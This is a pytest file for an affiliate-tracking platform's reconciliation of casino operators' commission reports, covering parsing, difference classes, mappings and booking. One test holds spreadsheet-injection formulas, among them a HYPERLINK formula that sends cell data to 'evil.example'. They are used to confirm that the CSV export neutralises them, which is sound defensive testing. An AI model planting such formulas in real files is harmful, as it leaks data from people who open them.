"""Reconciliation (issue 15, ADR 20): an operator's report, shaped like the exports of MyAffiliates,
NetRefer and Income Access, uploaded and compared with what clickback recorded player by player;
every class of difference with its evidence, the summary, the CSV, a file or a line imported
once, bad lines reported with the others imported, and the column mapping kept per advertiser."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import httpx
import openpyxl
import pytest

from clickback.core.accounts import Role
from tests.conftest import Client, World
from tests.receiver import Receiver, receiving
from tests.web.personas import Keys, add_user
from tests.web.test_event_times import old_click
from tests.web.test_outbound import add_template

CPA_100 = {"kind": "cpa", "cpa": {"amount": "100", "ftd_min": "20"}}


def upload(
    client: Client,
    data: bytes,
    name: str,
    advertiser_id: int,
    path: str = "/api/reconciliations",
    **form: str,
) -> httpx.Response:
    return client.http.post(
        path,
        files={"file": (name, data)},
        data={"advertiser_id": str(advertiser_id), **form},
        headers=client.auth,
    )


def imported(client: Client, data: bytes, name: str, advertiser_id: int, **form: str) -> dict[str, Any]:
    reply = upload(client, data, name, advertiser_id, **form)
    assert reply.status_code == 200, reply.text
    body: dict[str, Any] = reply.json()
    return body


def items_by_player(client: Client, reconciliation_id: int) -> dict[str, dict[str, Any]]:
    body = client.api("GET", f"/reconciliations/{reconciliation_id}", params={"limit": 1000})
    return {it["player_id"]: it for it in body["items"]["items"]}


def player(client: Client, world: World, name: str, link: str, first: str | None, **more: str) -> str:
    """A player of Northstar's casino: a click of `link`, a registration, a first deposit of
    `first`, then each event of `more` with its amount."""
    cid = client.click(link)
    client.flush()
    assert (
        client.postback(click_id=cid, event="reg", player_id=name, token=world.token).json()["result"]
        == "accepted"
    )
    if first is not None:
        reply = client.postback(
            event="ftd", player_id=name, payout=first, txn_id=f"D-{name}", token=world.token
        )
        assert reply.json()["result"] == "accepted", reply.text
    for event, amount in more.items():
        reply = client.postback(
            event=event, player_id=name, payout=amount, txn_id=f"{event}-{name}", token=world.token
        )
        assert reply.json()["result"] == "accepted", reply.text
    return cid


def myaffiliates_csv(rows: list[list[str]]) -> bytes:
    """MyAffiliates' export as a European spreadsheet saves it: a BOM, semicolons, decimal
    commas, Windows line ends."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(
        "PLAYER_ID TOKEN JOINED_DATE FIRST_DEPOSIT_DATE DEPOSITS NET_REVENUE CPA REV_SHARE CURRENCY".split()
    )
    writer.writerows(rows)
    return b"\xef\xbb\xbf" + buffer.getvalue().encode()


def test_every_class_with_its_evidence_from_a_myaffiliates_csv_imported_once(
    client: Client, world: World
) -> None:
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    today = datetime.now(UTC).date()
    day, month = today.strftime("%d.%m.%Y"), today.strftime("%Y-%m")
    matched = player(client, world, "P-match", world.alice_casino, "50")
    player(client, world, "P-extra", world.alice_casino, "40")
    player(client, world, "P-elsewhere", world.alice_casino, None)
    cpa = player(client, world, "P-cpa", world.alice_casino, "25")
    charged = player(client, world, "P-charged", world.alice_casino, "100", chargeback="30")
    # The operator's FTD of P-lost never arrived with a click: clickback refused it.
    refused = client.postback(
        event="ftd", player_id="P-lost", payout="60", txn_id="D-lost", token=world.token
    )
    assert refused.json()["reason"] == "unknown_player"

    data = myaffiliates_csv(
        [
            ["P-match", matched, day, day, "50,00", "", "100,00", "", "EUR"],
            ["P-lost", "x", day, day, "60,00", "", "100,00", "", "EUR"],
            ["P-elsewhere", world.bob_casino, day, "", "", "", "", "", "EUR"],
            ["P-cpa", cpa, day, day, "25,00", "", "0,00", "", "EUR"],
            ["P-charged", charged, day, day, "70,00", "", "100,00", "", "EUR"],
            ["P-bad", "x", day, day, "lots", "", "", "", "EUR"],
        ]
    )
    body = imported(client, data, "myaffiliates.csv", world.northstar["id"], period=month)
    rec = body["reconciliation"]
    assert body["duplicate"] is False
    assert rec["reading"] == {"decimal": ",", "encoding": "utf-8-sig", "delimiter": ";"}
    assert (rec["lines"], rec["imported"], rec["bad"], rec["skipped"]) == (6, 5, 1, 0)
    assert body["bad_lines"] == [
        {"line": 7, "reason": "deposits: 'lots' is not an amount (decimal mark ',', not negative, "
         "4 decimals and 10^9 at most)"}
    ]  # fmt: skip

    items = items_by_player(client, rec["id"])
    assert {p: it["kind"] for p, it in items.items()} == {
        "P-match": "matched",
        "P-lost": "missing_in_clickback",
        "P-extra": "missing_at_operator",
        "P-elsewhere": "attributed_elsewhere",
        "P-cpa": "cpa_disagrees",
        "P-charged": "amount_differs",
    }
    lost = items["P-lost"]["evidence"]
    assert [r["reason"] for r in lost["refused_postbacks"]] == ["unknown_player"]
    extra = items["P-extra"]
    assert Decimal(extra["difference"]) == -100 and len(extra["evidence"]["reported_by"]) == 2
    assert "affiliate" in items["P-elsewhere"]["evidence"]["attribution"]
    # A report does not move a player to another affiliate: nothing to accept, and nothing claimed.
    moved = client.http.post(
        f"/api/reconciliations/items/{items['P-elsewhere']['id']}/accept", headers=client.auth
    )
    assert moved.status_code == 409 and "not moved by reconciliation" in moved.text
    assert items_by_player(client, rec["id"])["P-elsewhere"]["accepted_at"] is None
    assert (
        items["P-cpa"]["evidence"]["qualification"]["rules"]
        == "CPA 100.00 EUR; registration; first deposit ≥ 20.00"
    )
    assert items["P-cpa"]["causes"][0]["cause"] == "cpa_not_qualified"
    # Each of the deal's rules checked on the player's events: both held, so clickback qualified.
    assert items["P-cpa"]["evidence"]["rule_checks"] == [
        {"rule": "registration", "held": True, "on": today.isoformat(), "detail": f"held on {today}"},
        {
            "rule": "first deposit ≥ 20.00 EUR",
            "held": True,
            "on": today.isoformat(),
            "detail": f"held on {today}, 25.00 EUR",
        },
    ]
    assert [(c["cause"], Decimal(c["amount"])) for c in items["P-charged"]["causes"]] == [("chargeback", -30)]
    assert Decimal(items["P-match"]["evidence"]["ledger"][0]["amount"]) == 100

    (alice,) = [s for s in rec["summary"] if s["affiliate_id"] == world.alice["id"]]
    assert (Decimal(alice["operator_total"]), Decimal(alice["clickback_total"])) == (200, 400)
    assert {k: Decimal(v) for k, v in alice["explained"].items()} == {
        "missing_at_operator": -100,
        "cpa_disagrees": -100,
    }
    # P-lost is nobody's in clickback (its tracking code names no click or link of ours).
    assert [Decimal(s["operator_total"]) for s in rec["summary"] if s["affiliate_id"] is None] == [100]

    # The same file again is that reconciliation; the same lines in another file are skipped.
    again = imported(client, data, "again.csv", world.northstar["id"], period=month)
    assert again["duplicate"] is True and again["reconciliation"]["id"] == rec["id"]
    longer = imported(client, data + b"\r\n", "longer.csv", world.northstar["id"], period=month)
    assert (longer["reconciliation"]["imported"], longer["reconciliation"]["skipped"]) == (0, 5)
    assert len(client.items("/reconciliations")) == 2

    exported = client.http.get(f"/api/reconciliations/{rec['id']}.csv", headers=client.auth)
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    lines = list(csv.DictReader(io.StringIO(exported.text)))
    assert {r["player_id"]: r["class"] for r in lines}["P-cpa"] == "cpa_disagrees"
    assert Decimal({r["player_id"]: r["difference"] for r in lines}["P-extra"]) == -100

    audited = client.items("/audit", entity_kind="reconciliation")
    assert [(e["action"], e["entity_id"]) for e in audited][-1] == ("import", rec["id"])


NETREFER_HEADER = (
    "Customer ID,Marketing Tag,Month,Registration Date,First Deposit Date,First Deposit Amount,Deposits,NGR,"
    "CPA Commission,RS Commission,Currency"
).split(",")


def netrefer_xlsx(rows: list[list[Any]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(NETREFER_HEADER)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_a_netrefer_xlsx_and_an_income_access_csv_with_a_bad_line_among_good_ones(
    client: Client, world: World
) -> None:
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    now = datetime.now(UTC).replace(tzinfo=None)  # a spreadsheet's dates have no zone
    month = now.strftime("%Y-%m")
    cid = player(client, world, "N-1", world.alice_casino, "50")
    data = netrefer_xlsx(
        [
            ["N-1", cid, month, now, now, 50, 50, None, 100, None, "EUR"],
            ["N-2", "t", month, now, now, 20, 20, None, 0, None, "EURO"],
            ["N-3", "t", month, now, now, 20, -20, None, 0, None, "EUR"],
        ]
    )
    body = imported(client, data, "netrefer.xlsx", world.northstar["id"])
    rec = body["reconciliation"]
    assert (rec["file_kind"], rec["imported"], rec["bad"]) == ("xlsx", 1, 2)
    assert [(b["line"], b["reason"].split(":")[0]) for b in body["bad_lines"]] == [
        (3, "currency"),
        (4, "deposits"),
    ]
    assert items_by_player(client, rec["id"])["N-1"]["kind"] == "matched"
    assert rec["mapping"]["columns"]["player_id"] == "Customer ID"

    # Income Access: commas, a decimal point, Windows-1252 text, its own header names. The
    # advertiser's saved mapping (NetRefer's) does not fit it: the import says so and what the
    # header proposes; given that mapping, it imports.
    text = "Player ID,BTAG,Period,Sign Up Date,FTD Date,Deposits,CPA Commission,Currency\r\n"
    text += f"N-1,{cid},{month},{now:%d/%m/%Y},{now:%d/%m/%Y},50.00,100.00,EUR\r\n"
    text += f"Zoë,x,{month},{now:%d/%m/%Y},,0.00,0.00,EUR\r\n"
    refused = upload(client, text.encode("cp1252"), "ia.csv", world.northstar["id"])
    assert refused.status_code == 422
    assert "the file has no column 'Customer ID'" in refused.json()["detail"][0]["msg"]
    seen = client.http.post(
        "/api/reconciliations/preview",
        files={"file": ("ia.csv", text.encode("cp1252"))},
        data={"advertiser_id": str(world.northstar["id"])},
        headers=client.auth,
    ).json()
    assert seen["proposed"]["columns"]["tracking_code"] == "BTAG" and seen["problem"]
    assert seen["rows"][1]["cells"][0] == "Zoë"
    mapping = seen["proposed"] | {"currency": "EUR"}
    ia = imported(client, text.encode("cp1252"), "ia.csv", world.northstar["id"], mapping=json.dumps(mapping))
    kinds = items_by_player(client, ia["reconciliation"]["id"])
    assert kinds["N-1"]["kind"] == "matched" and kinds["Zoë"]["kind"] == "missing_in_clickback"
    saved = client.api("GET", f"/advertisers/{world.northstar['id']}/reconciliation-mapping")
    assert saved["columns"]["player_id"] == "Player ID" and saved["currency"] == "EUR"


def test_the_mapping_is_set_checked_audited_and_only_a_managers(client: Client, world: World) -> None:
    adv = world.northstar["id"]
    assert (
        client.http.get(f"/api/advertisers/{adv}/reconciliation-mapping", headers=client.auth).status_code
        == 404
    )
    body = {"columns": {"player_id": "Spieler", "ngr": "NGR"}, "date_order": "dmy", "currency": "EUR"}
    assert (
        client.api("PUT", f"/advertisers/{adv}/reconciliation-mapping", json=body)["columns"]["player_id"]
        == "Spieler"
    )
    for bad in ({"columns": {"ngr": "NGR"}}, {"columns": {"nonsense": "x"}}, {"columns": {"player_id": ""}}):
        reply = client.http.put(
            f"/api/advertisers/{adv}/reconciliation-mapping", json=bad, headers=client.auth
        )
        assert reply.status_code == 422, bad
    assert (
        client.http.put(
            "/api/advertisers/999/reconciliation-mapping", json=body, headers=client.auth
        ).status_code
        == 404
    )
    (entry,) = client.items("/audit", entity_kind="reconciliation_mapping")
    assert entry["after"]["columns"] == {"player_id": "Spieler", "ngr": "NGR"}

    alice = Keys.header(add_user(client, "alice", Role.AFFILIATE, affiliate_id=world.alice["id"]))
    assert client.http.get("/api/reconciliations", headers=alice).status_code == 403
    reply = client.http.post(
        "/api/reconciliations",
        files={"file": ("a.csv", b"x")},
        data={"advertiser_id": str(adv)},
        headers=alice,
    )
    assert reply.status_code == 403


@pytest.mark.parametrize(
    ("data", "form", "status", "message"),
    [
        (b"", {}, 422, "no header"),
        (b"PK\x03\x04junk", {}, 422, "not an XLSX file"),
        (b"Player ID,NGR\nP,1\n", {"advertiser_id": "999"}, 404, "does not exist"),
        (b"Player ID,NGR\nP,1\n", {"mapping": "{"}, 422, "not a mapping"),
        (b"Player ID,NGR\nP,1\n", {"period": "2026-13"}, 422, ""),
        (b"Player ID,NGR,NGR\nP,1,100\n", {}, 422, "2 columns named 'NGR'"),
    ],
)
def test_what_cannot_be_reconciled_is_a_4xx_with_a_reason(
    client: Client, world: World, data: bytes, form: dict[str, str], status: int, message: str
) -> None:
    fields = {"advertiser_id": str(world.northstar["id"])} | form
    reply = client.http.post(
        "/api/reconciliations", files={"file": ("f.csv", data)}, data=fields, headers=client.auth
    )
    assert reply.status_code == status, reply.text
    assert message in reply.text


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with receiving() as r:
        yield r


def test_accepting_the_operators_figure_books_it_through_the_intake_into_statement_and_outbound(
    client: Client, world: World, receiver: Receiver
) -> None:
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    add_template(client, world, receiver.url("/pb?cid={click_id}&e={event}"), events=["ftd"])
    # Alice's click reached the operator; its registration and first deposit never came back.
    cid = client.click(world.alice_casino)
    client.flush()
    today = datetime.now(UTC).date()
    month = today.strftime("%Y-%m")
    # Cellxpert's export: comma-separated, its own header names.
    text = "User ID,afp,Registration Date,FTD Date,FTD Amount,Deposits,CPA,Currency\r\n"
    text += f"C-1,{cid},{today},{today},50.00,50.00,100.00,EUR\r\nC-2,nobody,{today},,,,0,EUR\r\n"
    rec = imported(client, text.encode(), "cellxpert.csv", world.northstar["id"], period=month)[
        "reconciliation"
    ]
    items = items_by_player(client, rec["id"])
    assert items["C-1"]["kind"] == "missing_in_clickback"

    reply = client.http.post(f"/api/reconciliations/items/{items['C-1']['id']}/accept", headers=client.auth)
    assert reply.status_code == 200, reply.text
    accepted = reply.json()
    assert [(p["event"], p["result"]) for p in accepted["postbacks"]] == [
        ("registration", "accepted"),
        ("first_deposit", "accepted"),
    ]
    conversion = client.api("GET", f"/conversions/{accepted['postbacks'][1]['conversion_id']}")
    assert (conversion["channel"], conversion["affiliate_id"], conversion["player_id"]) == (
        "recon",
        world.alice["id"],
        "C-1",
    )
    assert [p["channel"] for p in conversion["postbacks"]] == ["recon"]
    # The ledger and the statement follow, and Alice's tracker hears of the FTD.
    (line,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (line["ftds"], line["qualified_cpas"], Decimal(line["cpa_earnings"])) == (1, 1, 100)
    (got,) = receiver.deliveries(1)
    assert got.target == f"/pb?cid={cid}&e=first_deposit"

    again = client.http.post(f"/api/reconciliations/items/{items['C-1']['id']}/accept", headers=client.auth)
    assert again.status_code == 409 and "accepted by" in again.text
    # C-2's tracking code is no click of clickback's: the intake refuses it and says why.
    refused = client.http.post(f"/api/reconciliations/items/{items['C-2']['id']}/accept", headers=client.auth)
    assert refused.status_code == 409 and "registration: malformed_click_id" in refused.text, refused.text
    item = items_by_player(client, rec["id"])["C-1"]
    assert (item["accepted_conversion_id"], item["accepted_by"]) == (
        accepted["postbacks"][0]["conversion_id"],
        "bootstrap key",
    )
    accepts = [e for e in client.items("/audit", entity_kind="reconciliation") if e["action"] == "accept"]
    assert [e["after"]["player_id"] for e in accepts] == ["C-2", "C-1"]
    # A later postback of the same first deposit from the advertiser is a duplicate.
    late = client.postback(event="ftd", player_id="C-1", payout="50", token=world.token)
    assert late.json()["result"] == "duplicate"


def test_a_daily_report_books_its_lines_with_the_keys_of_postbacks(client: Client, world: World) -> None:
    """An operator that sends no postbacks: its daily report (Affilka's columns) books them."""
    cid = client.click(world.alice_casino)
    client.flush()
    today = datetime.now(UTC).date()
    text = "Player ID,Stag,Sign Up At,First Deposit At,First Deposit Sum,Deposits Sum,Currency,"
    text += "Transaction ID\r\n"
    text += f"D-1,{cid},{today},{today},50.00,80.00,EUR,T-1\r\n"
    body = imported(client, text.encode(), "daily.csv", world.northstar["id"], book="true")
    assert body["booked"] == {"accepted": 3}
    assert items_by_player(client, body["reconciliation"]["id"])["D-1"]["kind"] == "matched"
    conversions = client.items("/conversions", player_id="D-1")
    assert sorted((c["event"], c["channel"], Decimal(c["payout"])) for c in conversions) == [
        ("deposit", "recon", 30),
        ("first_deposit", "recon", 50),
        ("registration", "recon", Decimal("1.5")),
    ]
    # Each conversion points back to the file and line it was booked from, and who booked it.
    rec = body["reconciliation"]
    for c in conversions:
        (created,) = client.api("GET", f"/conversions/{c['id']}")["history"]
        assert created["reason"] == (
            f"daily report daily.csv (SHA-256 {rec['file_hash'][:16]}), line 2: booked by bootstrap key at "
            f"{created['at'][:19]}+00:00"
        )
    # The advertiser's own postback of the same transaction later is a duplicate.
    late = client.postback(event="deposit", player_id="D-1", payout="30", txn_id="T-1", token=world.token)
    assert late.json()["result"] == "duplicate"
    # The next day's file repeating the line books nothing twice.
    again = imported(client, text.encode() + b"\r\n", "daily2.csv", world.northstar["id"], book="true")
    assert again["booked"] == {} and again["reconciliation"]["skipped"] == 1


def test_a_daily_reports_later_deposit_is_dated_its_own_day_and_stays_a_deposit(
    client: Client, world: World
) -> None:
    """A line of a later day with deposits and no first deposit is booked on the day it reports:
    dated the sign-up day or the month's first, it came before the player's real first deposit,
    and the intake (which labels deposits by time) made it the first deposit."""
    first_of_month = datetime.now(UTC).date().replace(day=1)
    month_before = (first_of_month - timedelta(days=1)).replace(day=1)
    signed, second = month_before.replace(day=10), month_before.replace(day=15)
    cid = old_click(client, world.alice_casino, datetime(signed.year, signed.month, 9, tzinfo=UTC))
    text = "Date,Player ID,Stag,Sign Up At,First Deposit At,First Deposit Sum,Deposits Sum,Currency,"
    text += "Transaction ID\r\n"
    text += f"{signed},D-2,{cid},{signed},{signed},50.00,50.00,EUR,T-2\r\n"
    text += f"{second},D-2,{cid},,,,30.00,EUR,T-3\r\n"
    body = imported(client, text.encode(), "daily.csv", world.northstar["id"], book="true")
    assert body["booked"] == {"accepted": 3}, body["booked"]
    conversions = client.items("/conversions", player_id="D-2")
    assert sorted((c["event"], Decimal(c["payout"]), c["event_at"][:10]) for c in conversions) == [
        ("deposit", 30, second.isoformat()),
        ("first_deposit", 50, signed.isoformat()),
        ("registration", Decimal("1.5"), signed.isoformat()),
    ]


def test_accepting_what_the_operator_does_not_count_rejects_it_through_the_status_change(
    client: Client, world: World, receiver: Receiver
) -> None:
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=CPA_100)
    add_template(client, world, receiver.url("/pb?e={event}&st={status}"), events=["qualified_cpa"])
    today = datetime.now(UTC).date()
    day, month = today.strftime("%d.%m.%Y"), today.strftime("%Y-%m")
    matched = player(client, world, "P-match", world.alice_casino, "50")
    player(client, world, "P-extra", world.alice_casino, "40")
    cpa = player(client, world, "P-cpa", world.alice_casino, "25")
    receiver.deliveries(3)  # each qualified CPA announced
    # The operator lists neither P-extra nor a CPA for P-cpa.
    data = myaffiliates_csv(
        [
            ["P-match", matched, day, day, "50,00", "", "100,00", "", "EUR"],
            ["P-cpa", cpa, day, day, "25,00", "", "0,00", "", "EUR"],
        ]
    )
    rec = imported(client, data, "myaffiliates.csv", world.northstar["id"], period=month)["reconciliation"]
    items = items_by_player(client, rec["id"])
    assert {p: it["kind"] for p, it in items.items()} == {
        "P-match": "matched",
        "P-extra": "missing_at_operator",
        "P-cpa": "cpa_disagrees",
    }
    (before,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (before["ftds"], before["qualified_cpas"], Decimal(before["cpa_earnings"])) == (3, 3, 300)

    def accept(name: str) -> httpx.Response:
        return client.http.post(f"/api/reconciliations/items/{items[name]['id']}/accept", headers=client.auth)

    # Not in the report: its registration and first deposit are rejected, and the CPA they paid reversed.
    extra = accept("P-extra")
    assert extra.status_code == 200, extra.text
    assert extra.json()["postbacks"] == []
    assert [(c["event"], c["status"], c["problem"]) for c in extra.json()["changes"]] == [
        ("registration", "rejected", ""),
        ("first_deposit", "rejected", ""),
    ]
    # The CPA the operator did not pay: disallowed, while P-cpa's first deposit stands.
    disallowed = accept("P-cpa")
    assert disallowed.status_code == 200, disallowed.text
    [(conversion, event)] = [(c["conversion_id"], c["event"]) for c in disallowed.json()["changes"]]
    assert event == "qualified_cpa"
    (after,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert Decimal(after["cpa_earnings"]) == 100
    assert [c["status"] for c in client.items("/conversions", player_id="P-cpa", event="first_deposit")] == [
        "approved"
    ]
    history = client.api("GET", f"/conversions/{conversion}")["history"]
    assert history[-1]["to_status"] == "rejected"
    assert (
        f"reconciliation {rec['id']} item {items['P-cpa']['id']} (myaffiliates.csv, lines 3)"
        in (history[-1]["reason"])
    )
    # Alice's tracker hears of both reversals, as of any status change.
    statuses = sorted(r.target for r in receiver.deliveries(5)[3:])
    assert statuses == ["/pb?e=qualified_cpa&st=rejected"] * 2
    # Audited as changes by the acceptor, each with the reconciliation as its reason.
    changed = client.items("/audit", entity_kind="conversion")
    assert len(changed) == 3 and {e["actor"] for e in changed} == {"bootstrap key"}
    accepts = [e for e in client.items("/audit", entity_kind="reconciliation") if e["action"] == "accept"]
    assert [[c["event"] for c in e["after"]["changes"]] for e in accepts] == [
        ["qualified_cpa"],
        ["registration", "first_deposit"],
    ]

    assert accept("P-cpa").status_code == 409
    matched_reply = accept("P-match")
    assert matched_reply.status_code == 409 and "no figure" in matched_reply.text


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1", "-2", "@SUM(1)", "\t=1+1", "\r=2"]


def test_the_csv_export_keeps_formulas_in_the_operators_cells_as_text(client: Client, world: World) -> None:
    """A report's player IDs and tracking codes are the operator's text: opened in a spreadsheet,
    the export runs none of them (a number-looking "-2" included), while amounts stay numbers."""
    month = datetime.now(UTC).strftime("%Y-%m")
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["Player ID", "BTAG", "NGR", "Currency"])
    for n, text in enumerate(FORMULAS):
        writer.writerow([text, text if n % 2 else f"-{n}", "-12.50", "EUR"])
    rec = imported(client, buffer.getvalue().encode(), "formulas.csv", world.northstar["id"], period=month)[
        "reconciliation"
    ]
    assert (rec["imported"], rec["bad"]) == (len(FORMULAS), 0)

    exported = client.http.get(f"/api/reconciliations/{rec['id']}.csv", headers=client.auth)
    assert exported.status_code == 200
    rows = {r["player_id"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    # Each cell as read (the reader strips a cell's spaces, tabs and line ends) behind an apostrophe.
    assert sorted(rows) == sorted("'" + text.strip() for text in FORMULAS)
    for n, text in enumerate(FORMULAS):
        row = rows["'" + text.strip()]
        assert row["operator_tracking_code"] == "'" + (text.strip() if n % 2 else f"-{n}")
        assert (row["operator_ngr"], row["difference"]) == ("-12.50", "0.00")
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    cells = [c for r in csv.reader(io.StringIO(exported.text)) for c in r]
    assert [c for c in cells if c.startswith(dangerous) and not _number(c)] == []


def _number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


HYBRID = {
    "kind": "hybrid",
    "cpa": {"amount": "100", "ftd_min": "20", "deposits_min": "100"},
    "revshare": {"percent": "25"},
}


def test_accepting_a_differing_amount_books_the_difference_either_way_through_the_intake(
    client: Client, world: World, receiver: Receiver
) -> None:
    """Deposits or NGR the operator counts more or less of are booked as the events that make
    them so (a deposit, a chargeback, an NGR report of the month); the CPA and RevShare follow
    from the deal. A commission that differs on the same activity has nothing to book."""
    client.api("PUT", f"/offers/{world.casino['id']}/deal", json=HYBRID)
    add_template(
        client,
        world,
        receiver.url("/pb?e={event}&c={conversion_id}"),
        events=["deposit", "chargeback", "ngr"],
    )
    month = datetime.now(UTC).strftime("%Y-%m")
    # Each qualifies: a first deposit of 50 and 60 more (110, of the 100 the CPA needs).
    codes = {
        "P-low": player(client, world, "P-low", world.alice_casino, "50", deposit="60", ngr="200"),
        "P-more": player(client, world, "P-more", world.alice_casino, "50", deposit="60", ngr="100"),
        "P-rate": player(client, world, "P-rate", world.alice_casino, "50", deposit="60"),
        "P-netted": player(
            client, world, "P-netted", world.alice_casino, "50", deposit="60", chargeback="10"
        ),
    }
    assert len(receiver.deliveries(7)) == 7  # the deposits, NGR reports and chargeback announced
    (before,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (before["qualified_cpas"], Decimal(before["cpa_earnings"]), Decimal(before["ngr"])) == (
        4,
        400,
        300,
    )
    assert Decimal(before["revshare_earnings"]) == 75

    text = "Player ID,BTAG,Deposits,NGR,CPA,Currency\r\n"
    text += f"P-low,{codes['P-low']},90.00,150.00,,EUR\r\n"  # a chargeback of 20 and 50 less NGR
    text += f"P-more,{codes['P-more']},130.00,120.00,,EUR\r\n"  # 20 more of each
    text += f"P-rate,{codes['P-rate']},110.00,0.00,120.00,EUR\r\n"  # the same activity, a CPA of 120
    text += f"P-netted,{codes['P-netted']},100.00,,,EUR\r\n"  # clickback's chargeback netted out
    rec = imported(client, text.encode(), "netted.csv", world.northstar["id"], period=month)["reconciliation"]
    items = items_by_player(client, rec["id"])
    assert {p: it["kind"] for p, it in items.items()} == dict.fromkeys(codes, "amount_differs")

    def accept(name: str) -> httpx.Response:
        return client.http.post(f"/api/reconciliations/items/{items[name]['id']}/accept", headers=client.auth)

    low = accept("P-low")
    assert low.status_code == 200, low.text
    assert [(p["event"], p["result"]) for p in low.json()["postbacks"]] == [
        ("chargeback", "accepted"),
        ("net_revenue", "accepted"),
    ]
    sent = {p["event"]: p["conversion_id"] for p in low.json()["postbacks"]}
    chargeback = client.api("GET", f"/conversions/{sent['chargeback']}")
    assert (chargeback["player_id"], Decimal(chargeback["payout"]), chargeback["channel"]) == (
        "P-low",
        20,
        "recon",
    )
    ngr = client.api("GET", f"/conversions/{sent['net_revenue']}")
    assert (Decimal(ngr["payout"]), ngr["period"]) == (-50, month)
    # The conversion points back to where its figure came from, who accepted it and when.
    (created,) = ngr["history"]
    assert created["reason"].startswith(
        f"reconciliation {rec['id']} item {items['P-low']['id']} (netted.csv, lines 2): the operator's "
        "figure for P-low in " + month + " accepted by bootstrap key at "
    )
    # 90 deposited now, under the CPA's 100: the CPA is reversed; RevShare on 250.
    (after,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (after["cpa_reversals"], Decimal(after["cpa_earnings"]), Decimal(after["ngr"])) == (1, 300, 250)
    assert Decimal(after["revshare_earnings"]) == Decimal("62.50")

    more = accept("P-more")
    assert more.status_code == 200, more.text
    assert [(p["event"], p["result"]) for p in more.json()["postbacks"]] == [
        ("deposit", "accepted"),
        ("net_revenue", "accepted"),
    ]
    (last,) = client.api("GET", f"/statements/{world.alice['id']}/{month}")["lines"]
    assert (Decimal(last["cpa_earnings"]), Decimal(last["ngr"]), Decimal(last["revshare_earnings"])) == (
        300,
        270,
        Decimal("67.50"),
    )
    # Alice's tracker hears of each booked event, as of the advertiser's own.
    booked = [*low.json()["postbacks"], *more.json()["postbacks"]]
    assert sorted(r.target for r in receiver.deliveries(11)[7:]) == sorted(
        f"/pb?e={p['event']}&c={p['conversion_id']}" for p in booked
    )

    # The same deposits and NGR, another CPA: the commission follows from the deal, nothing to book.
    rate = accept("P-rate")
    assert rate.status_code == 409 and "the ledger takes no entry by hand" in rate.text
    # Lower deposits that are clickback's own chargeback netted out: nothing to book either.
    netted = accept("P-netted")
    assert netted.status_code == 409 and "10 of them charged back" in netted.text
    assert [
        it["accepted_at"]
        for name, it in items_by_player(client, rec["id"]).items()
        if name in ("P-rate", "P-netted")
    ] == [None, None]
    assert len(client.items("/conversions", player_id="P-netted")) == 5  # with its qualified_cpa: none booked


def test_accepting_a_differing_amount_books_against_clickbacks_figures_now_not_at_the_import(
    client: Client, world: World
) -> None:
    """The advertiser's own deposit postback arriving between the import and the accept is not
    booked a second time; nor is a difference another file's item corrected already."""
    month = datetime.now(UTC).strftime("%Y-%m")
    code = player(client, world, "P-late", world.alice_casino, "50", deposit="60")
    text = f"Player ID,BTAG,Deposits,Currency\r\nP-late,{code},130.00,EUR\r\n"
    first = imported(client, text.encode(), "first.csv", world.northstar["id"], period=month)[
        "reconciliation"
    ]
    # The operator's next export of the month: the same figure, as a line of its own.
    text2 = f"Player ID,BTAG,Deposits,Currency,Transaction ID\r\nP-late,{code},130.00,EUR,E-2\r\n"
    columns = {"player_id": "Player ID", "tracking_code": "BTAG", "deposits": "Deposits"}
    mapping = json.dumps({"columns": columns | {"currency": "Currency", "transaction_id": "Transaction ID"}})
    second = imported(
        client, text2.encode(), "second.csv", world.northstar["id"], period=month, mapping=mapping
    )
    items = [items_by_player(client, r["id"])["P-late"] for r in (first, second["reconciliation"])]
    assert [(it["kind"], Decimal(it["clickback"]["deposits"])) for it in items] == [
        ("amount_differs", 110)
    ] * 2

    def accept(item: dict[str, Any]) -> httpx.Response:
        return client.http.post(f"/api/reconciliations/items/{item['id']}/accept", headers=client.auth)

    late = client.postback(event="deposit", player_id="P-late", payout="5", txn_id="L-1", token=world.token)
    assert late.json()["result"] == "accepted"
    booked = accept(items[0])
    assert booked.status_code == 200, booked.text
    (sent,) = booked.json()["postbacks"]
    assert (sent["event"], Decimal(client.api("GET", f"/conversions/{sent['conversion_id']}")["payout"])) == (
        "deposit",
        15,  # 130 less the 115 clickback has now, not the 110 it had at the import
    )
    # The second file's item, compared before the first was accepted: nothing is left to book.
    again = accept(items[1])
    assert again.status_code == 409 and "no event would bring" in again.text
    deposits = [c for c in client.items("/conversions", player_id="P-late") if "deposit" in c["event"]]
    assert sum(Decimal(c["payout"]) for c in deposits) == 130


def test_a_differing_amount_in_another_currency_without_a_rate_is_not_booked(
    client: Client, world: World
) -> None:
    """Without the month's rate clickback's euros stand unconverted beside the operator's dollars:
    their difference is no amount to book."""
    month = datetime.now(UTC).strftime("%Y-%m")
    code = player(client, world, "P-usd", world.alice_casino, "50")
    text = f"Player ID,BTAG,Deposits,Currency\r\nP-usd,{code},80.00,USD\r\n"
    rec = imported(client, text.encode(), "usd.csv", world.northstar["id"], period=month)["reconciliation"]
